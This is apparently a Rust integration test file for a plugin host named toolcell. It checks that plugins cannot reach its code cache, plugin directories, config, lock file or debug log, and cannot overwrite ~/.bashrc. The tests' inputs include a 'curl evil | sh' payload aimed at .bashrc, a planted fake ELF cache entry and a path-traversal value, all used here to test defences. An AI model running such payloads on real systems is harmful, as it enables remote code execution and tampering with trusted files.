//! What the host trusts (the code cache, the plugin directories, the config file)
//! stays out of plugins' reach; run from home without a root, no plugin reaches the
//! startup files.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::json;

use crate::support::*;

#[test]
fn a_cache_inside_the_root_is_not_used_and_a_plugin_cannot_plant_an_entry() {
    // The reproduction: the cache lies inside the file root.
    let base = temp_dir();
    let root = base.path().join("root");
    let cache = root.join(".cache/toolcell");
    fs::create_dir_all(&root).expect("root");
    let plugins = plugin_dir(&[("files.lua", FILES_PLUGIN)]);
    let with_cache = || {
        let mut command = toolcell();
        command
            .env("TOOLCELL_CACHE_DIR", &cache)
            .arg("call")
            .arg("--plugins")
            .arg(plugins.path());
        command
    };
    // A run from elsewhere fills the cache.
    let warm = run(with_cache().arg("read").arg(r#"{"path":"nothing"}"#));
    assert_eq!(warm.code, Some(0), "{warm}");
    let entry = prepared_entry(&cache);
    let entry_path = cache.join(&entry);
    let compiled = fs::read(&entry_path).expect("entry");

    let in_root = |tool: &str, path: &str| {
        run(with_cache()
            .arg("--root")
            .arg(&root)
            .arg(tool)
            .arg(json!({ "path": path, "content": "\u{7f}ELF planted" }).to_string()))
    };
    let refused = |action: &str, path: &str| {
        format!(
            "nil|string|cannot {action} {path}: it lies inside the compiled-code cache \
             (.cache/toolcell), which plugins may not read or change"
        )
    };
    let planted = in_root("write", &format!(".cache/toolcell/{entry}"));
    planted.assert_completed(&refused("write", &format!(".cache/toolcell/{entry}")));
    let warning = format!(
        "not using the compiled-code cache {}: it lies inside the file root {}",
        cache.display(),
        root.canonicalize().expect("canonical root").display()
    );
    assert!(planted.stderr.contains(&warning), "{planted}");
    assert_eq!(planted.stderr.lines().count(), 1, "one warning{planted}");
    in_root("read", ".cache/toolcell/key")
        .assert_completed(&refused("read", ".cache/toolcell/key"));
    in_root("write", ".cache/toolcell/key")
        .assert_completed(&refused("write", ".cache/toolcell/key"));
    assert_eq!(fs::read(&entry_path).expect("entry"), compiled);

    // The next run from elsewhere maps the entry it finds, as it was.
    let later = run(with_cache().arg("read").arg(r#"{"path":"nothing"}"#));
    assert_eq!(later.code, Some(0), "{later}");
    assert!(later.stderr.is_empty(), "{later}");
    assert_eq!(fs::read(&entry_path).expect("entry"), compiled);
}

#[test]
fn what_the_host_trusts_inside_the_root_is_out_of_plugins_reach() {
    let root = temp_dir();
    let root = root.path();
    let plugins = root.join("plugins");
    write(&plugins.join("files.lua"), FILES_PLUGIN);
    let config = root.join("toolcell.toml");
    write(&config, "[tools.files]\napi_key = \"the secret\"\n");
    let lock = root.join("toolcell.lock");
    let digest = toolcell::cache::sha256_hex(FILES_PLUGIN.as_bytes());
    write(&lock, format!("{digest}  plugins/files.lua\n"));
    let log = root.join("debug.log");
    let originals: Vec<(PathBuf, Vec<u8>)> = [&plugins.join("files.lua"), &config, &lock]
        .into_iter()
        .map(|path| (path.clone(), fs::read(path).expect("read")))
        .collect();

    let tool = |tool: &str, path: &str| {
        run(toolcell()
            .env("CLM_DEBUG_LOG", &log)
            .arg("call")
            .arg("--plugins")
            .arg(&plugins)
            .arg("--config")
            .arg(&config)
            .arg("--lock")
            .arg(&lock)
            .arg("--root")
            .arg(root)
            .arg(tool)
            .arg(json!({ "path": path, "content": "planted" }).to_string()))
    };
    for (action, path, relation, trusted) in [
        (
            "write",
            "plugins/evil.lua",
            "it lies inside the plugin directory",
            &plugins,
        ),
        (
            "write",
            "plugins/files.lua",
            "it lies inside the plugin directory",
            &plugins,
        ),
        (
            "read",
            "plugins/files.lua",
            "it lies inside the plugin directory",
            &plugins,
        ),
        ("read", "toolcell.toml", "it is the config file", &config),
        (
            "write",
            "./plugins/../toolcell.toml",
            "it is the config file",
            &config,
        ),
        ("write", "toolcell.lock", "it is the lock file", &lock),
        ("read", "debug.log", "it is the debug log", &log),
    ] {
        // Named where it lies in the root, not by the host's absolute path.
        let in_root = trusted.strip_prefix(root).expect("inside the root");
        tool(action, path).assert_completed(&format!(
            "nil|string|cannot {action} {path}: {relation} ({}), which plugins may not read \
             or change",
            in_root.display()
        ));
    }
    tool("write", "notes.txt").assert_completed("true|nil|nil");
    assert!(!plugins.join("evil.lua").exists());
    for (path, content) in originals {
        assert_eq!(
            fs::read(&path).expect("read"),
            content,
            "{}",
            path.display()
        );
    }
}

#[test]
fn a_root_inside_a_plugin_directory_is_a_usage_error() {
    let plugins = plugin_dir(&[("files.lua", FILES_PLUGIN)]);
    let inside = plugins.path().join("data");
    fs::create_dir(&inside).expect("data");
    for root in [plugins.path().to_path_buf(), inside] {
        let output = run(toolcell()
            .arg("call")
            .arg("--plugins")
            .arg(plugins.path())
            .arg("--root")
            .arg(&root)
            .arg("read")
            .arg(r#"{"path":"x"}"#));
        assert_eq!(output.code, Some(2), "{output}");
        assert!(output.stdout.is_empty(), "{output}");
        assert_eq!(
            output.stderr.trim_end(),
            format!(
                "error: cannot use {} as the file root: it is or lies inside the plugin \
                 directory {}, which plugins may not read or change",
                root.display(),
                plugins.path().display()
            ),
            "{output}"
        );
    }
}

#[test]
fn run_from_home_without_a_root_a_plugin_writes_its_own_directory_not_the_startup_files() {
    let base = temp_dir();
    let home = base.path().join("home/me");
    write(&home.join(".bashrc"), "# startup\n");
    let plugins = plugin_dir(&[("files.lua", FILES_PLUGIN)]);
    let from = |cwd: &Path, command: &mut Command| {
        run(command
            .env("HOME", &home)
            .env_remove("XDG_DATA_HOME")
            .current_dir(cwd)
            .arg("--plugins")
            .arg(plugins.path()))
    };
    let write_bashrc = json!({ "path": ".bashrc", "content": "curl evil | sh" }).to_string();
    let at_home = from(
        &home,
        toolcell().arg("call").arg("write").arg(&write_bashrc),
    );
    at_home.assert_completed("true|nil|nil");
    assert!(at_home.stderr.is_empty(), "{at_home}");
    assert_eq!(
        fs::read_to_string(home.join(".local/share/toolcell/data/files/.bashrc"))
            .expect("the plugin's own file"),
        "curl evil | sh"
    );
    from(
        &base.path().join("home"),
        toolcell()
            .arg("call")
            .arg("read")
            .arg(json!({ "path": "me/.bashrc" }).to_string()),
    )
    .assert_completed("nil|string|cannot read me/.bashrc: no such file or directory");
    assert_eq!(
        fs::read_to_string(home.join(".bashrc")).expect("read"),
        "# startup\n"
    );

    // A root given explicitly, or in the config, is the user's choice.
    let work = home.join("work");
    fs::create_dir(&work).expect("work");
    let notes = json!({ "path": "notes.txt", "content": "mine" }).to_string();
    let explicit = from(
        &home,
        toolcell()
            .arg("call")
            .arg("--root")
            .arg(&work)
            .arg("write")
            .arg(&notes),
    );
    explicit.assert_completed("true|nil|nil");
    assert!(explicit.stderr.is_empty(), "{explicit}");
    let config = base.path().join("conf/toolcell.toml");
    write(&config, "[files]\nroot = \"../home/me/work\"\n");
    let configured = from(
        &home,
        toolcell()
            .arg("call")
            .arg("--config")
            .arg(&config)
            .arg("read")
            .arg(json!({ "path": "notes.txt" }).to_string()),
    );
    configured.assert_completed("mine|nil|nil");
    assert!(configured.stderr.is_empty(), "{configured}");
}
